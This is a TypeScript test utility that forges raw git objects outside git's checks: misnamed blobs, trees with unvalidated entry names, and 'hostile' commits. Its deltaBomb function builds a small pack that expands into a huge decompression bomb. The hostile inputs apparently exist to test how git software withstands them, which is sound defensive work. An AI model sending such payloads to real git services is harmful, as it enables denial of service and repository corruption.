import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdir, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { deflateSync } from "node:zlib";

/** One entry of a tree, exactly as given: nothing is sorted, checked or escaped. */
export interface Entry {
  readonly mode: string;
  readonly name: string | Uint8Array;
  readonly id: string;
}

/** Writes git objects byte by byte into a repository's object folder, past all of git's own checks. */
export interface ObjectForge {
  blob(content: string | Uint8Array): Promise<string>;
  /** A file's content under the name of an object that it is not. */
  misnamed(content: string, id: string): Promise<string>;
  tree(...entries: readonly Entry[]): Promise<string>;
  /** A file under a path of plain trees: `nest(["a", "b"], entry)` is `a/b/<entry>`. */
  nest(folders: readonly (string | Uint8Array)[], entry: Entry): Promise<string>;
  commit(tree: string, parents: readonly string[], more?: string): Promise<string>;
}

export function createForge(gitDir: string): ObjectForge {
  const write = async (type: string, content: Uint8Array, name?: string): Promise<string> => {
    const bytes = Buffer.concat([Buffer.from(`${type} ${content.length}\0`), content]);
    const id = name ?? createHash("sha1").update(bytes).digest("hex");
    const file = join(gitDir, "objects", id.slice(0, 2), id.slice(2));
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, deflateSync(bytes), { flag: "w" });
    return id;
  };
  const forge: ObjectForge = {
    blob: (content) => write("blob", Buffer.from(content as string)),
    misnamed: (content, id) => write("blob", Buffer.from(content), id),
    tree: (...entries) =>
      write(
        "tree",
        Buffer.concat(
          entries.flatMap(({ mode, name, id }) => [
            Buffer.from(`${mode} `),
            Buffer.from(name as string),
            Buffer.from([0]),
            Buffer.from(id, "hex"),
          ]),
        ),
      ),
    async nest(folders, entry) {
      let current = entry;
      for (const name of [...folders].reverse()) current = { mode: "40000", name, id: await forge.tree(current) };
      return forge.tree(current);
    },
    commit: (tree, parents, more = "") =>
      write(
        "commit",
        Buffer.from(
          `tree ${tree}\n${parents.map((id) => `parent ${id}\n`).join("")}author A <a@b> 1767323045 +0000\n` +
            `committer A <a@b> 1767323045 +0000\n${more}\nhostile\n`,
        ),
      ),
  };
  return forge;
}

/** A pack of exactly these objects, made by git without looking into them. */
export function packOf(gitDir: string, ids: readonly string[]): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const child = spawn("git", [`--git-dir=${gitDir}`, "pack-objects", "--stdout", "-q"]);
    const chunks: Buffer[] = [];
    child.stdout.on("data", (chunk: Buffer) => chunks.push(chunk));
    child.on("error", reject);
    child.on("close", (code) =>
      code === 0 ? resolve(Buffer.concat(chunks)) : reject(new Error(`pack-objects: ${code}`)),
    );
    child.stdin.end(ids.map((id) => `${id}\n`).join(""));
  });
}

/** The variable-length number of a pack entry's header: type and size. */
function entryHeader(type: number, size: number): Buffer {
  const bytes: number[] = [];
  let rest = Math.floor(size / 16);
  let byte = (type << 4) | (size % 16);
  while (rest > 0) {
    bytes.push(byte | 0x80);
    byte = rest % 128;
    rest = Math.floor(rest / 128);
  }
  return Buffer.from([...bytes, byte]);
}

function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 0x80);
  }
}

/** A pack of some kilobytes: a blob of zeros, and a delta that copies it `times` over. */
export function deltaBomb(times: number): Buffer {
  const size = 0xffffff;
  const zeros = Buffer.alloc(size);
  const id = createHash("sha1").update(`blob ${size}\0`).update(zeros).digest();
  const copyAll = Buffer.from([0xf0, 0xff, 0xff, 0xff]);
  const delta = Buffer.concat([varint(size), varint(size * times), ...Array.from({ length: times }, () => copyAll)]);
  const body = Buffer.concat([
    Buffer.from("PACK\0\0\0\u0002\0\0\0\u0002"),
    ...[entryHeader(3, size), deflateSync(zeros), entryHeader(7, delta.length), id, deflateSync(delta)],
  ]);
  return Buffer.concat([body, createHash("sha1").update(body).digest()]);
}
